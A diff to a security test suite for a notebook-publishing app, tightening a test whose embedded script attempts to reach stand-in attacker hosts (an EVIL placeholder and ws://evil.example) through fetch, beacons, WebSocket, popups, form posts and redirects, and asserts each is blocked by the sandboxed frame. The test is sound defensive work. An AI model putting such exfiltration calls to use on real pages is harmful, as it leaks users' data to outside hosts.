@@ -73,11 +73,11 @@ def watched(browser: Browser, repo: Answering) -> Iterator[Watched]:
 
 def sign_in(repo: Answering) -> requests.Session:
     session = requests.Session()
-    form = session.get(f"{repo.url}/login", timeout=10).text
+    form = session.get(f"{repo.url}/login", timeout=60).text
     token = re.search(r'name="_xsrf" value="([^"]+)"', form)
     assert token is not None
     data = {"_xsrf": token[1], "name": "ada", "password": "secret-ada"}
-    assert session.post(f"{repo.url}/login", data=data, timeout=10).status_code == 200
+    assert session.post(f"{repo.url}/login", data=data, timeout=60).status_code == 200
     return session
 
 
@@ -129,14 +129,14 @@ def test_interactive_outputs_run_by_a_click_in_a_closed_frame(repo: Answering, w
       try { say("parent", parent.document.title) } catch (error) { say("parent", error.name) }
       say("origin", origin);
       say("calls", typeof RTCPeerConnection);
-      fetch("/api/user").then(() => say("own", "reached"), () => say("own", "refused"));
-      fetch("EVIL/f").then(() => say("other", "reached"), () => say("other", "refused"));
+      const own = fetch("/api/user").then(() => say("own", "reached"), () => say("own", "refused"));
+      const other = fetch("EVIL/f").then(() => say("other", "reached"), () => say("other", "refused"));
       new Image().src = "EVIL/i.png"; navigator.sendBeacon("EVIL/b");
       try { new WebSocket("ws://evil.example/w") } catch (error) { }
       try { open("EVIL/o") } catch (error) { }
       try { top.location = "EVIL/t" } catch (error) { say("top", error.name) }
       const form = document.createElement("form"); form.action = "EVIL/p"; document.body.append(form); form.submit();
-      setTimeout(() => say("done", 1), 300); setTimeout(() => location = "EVIL/l", 2500);
+      Promise.all([own, other]).then(() => say("done", 1)); onmessage = () => { location = "EVIL/l" };
     </script>""".replace("EVIL", EVIL)
     where = publish(repo, 901, nbformat.v4.new_notebook(cells=[code(**{"text/html": spy, "text/plain": "plain"})]))
     repo.patch(f"/api/package{where}", by="ada", json={"visibility": "private"})
@@ -158,6 +158,7 @@ def test_interactive_outputs_run_by_a_click_in_a_closed_frame(repo: Answering, w
         assert f"|{what}" in said
     assert "|own=refused" in said
     assert "|other=refused" in said
+    page.evaluate("document.querySelector('iframe').contentWindow.postMessage('go', '*')")
     expect(frame.locator("#works")).to_have_count(0)  # it went, and arrived nowhere
     watched.harmless(repo.url + where)
     assert len(watched.context.pages) == 1, "no window was opened"
@@ -167,7 +168,6 @@ def test_interactive_outputs_run_by_a_click_in_a_closed_frame(repo: Answering, w
 def test_the_frame_s_document_is_no_page_of_its_own(repo: Answering, watched: Watched) -> None:
     where = publish(repo, 902, nbformat.v4.new_notebook(cells=[code(**{"text/html": f"<script>{CODE}</script>"})]))
     watched.page.goto(f"{repo.url}{where}/1/interactive")
-    watched.page.wait_for_timeout(300)
     watched.harmless(f"{repo.url}{where}/1")
     framed = repo.get(f"{where}/1/interactive", headers={"Sec-Fetch-Dest": "iframe"})
     policy = framed.headers["Content-Security-Policy"]
